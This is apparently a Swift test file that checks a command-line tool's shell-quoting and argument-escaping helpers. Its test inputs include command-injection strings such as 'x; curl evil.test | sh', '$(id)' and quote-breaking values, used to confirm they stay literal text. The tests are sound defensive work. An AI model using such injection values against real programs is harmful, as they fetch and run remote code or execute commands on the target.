import System
import Testing

@testable import CLI

struct ShellQuotingTests {
    @Test(arguments: [
        "db", "a b", "", "x; curl evil.test | sh", "'; id; '", "it's", "$(id)", "`id`", "a\nb", "-n", "*",
        "~",
        "'\u{301}; id; '\u{301}", "é", "\\", "\"", "#x", "a=b",
    ])
    func quotesATextAsOneShellWord(text: String) async throws {
        let result = try await ChildProcess(
            executable: "/bin/sh", arguments: ["-c", "printf '%s|' \(text.shellQuoted) end"],
            environment: [:],
            isInteractive: false, outputLimit: 10_000, deadline: .seconds(20)
        ).run()
        #expect(CLITests.text(result.output) == "\(text)|end|")
    }

    @Test(arguments: ["db", "payments/db.yaml", "vault-transit:transit/k", "--all"])
    func omitsUnnecessaryQuotes(text: String) { #expect(text.shellQuoted == text) }

    @Test(arguments: [
        ("-x.yaml", "./-x.yaml"), ("-a b", "'./-a b'"), ("-", "-"), ("a/-x", "a/-x"), ("a b", "'a b'"),
    ])
    func noProgramTakesAPathForAnOption(path: String, word: String) {
        #expect(path.shellQuotedPath == word)
    }
}

/// ArgumentParser quotes arguments without escaping them.
@Suite struct QuotedArgumentsTests {
    @Test(arguments: [
        (["-n", "a\nb"], "The value 'a\nb' is invalid for '-n'", #"The value 'a\nb' is invalid for '-n'"#),
        (["--name=a\rb"], "The value 'a\rb' is\nUsage: x", "The value 'a\\rb' is\nUsage: x"),
        (["\n"], "Unexpected argument '\n'\nUsage: x", "Unexpected argument '\\n'\nUsage: x"),
        (["a"], "Unexpected argument 'a'\nUsage: x", "Unexpected argument 'a'\nUsage: x"),
    ])
    func escapesLineBreaksInArguments(arguments: [String], text: String, expected: String) {
        #expect(QuotedArguments.escape(arguments, in: text) == expected)
    }
}
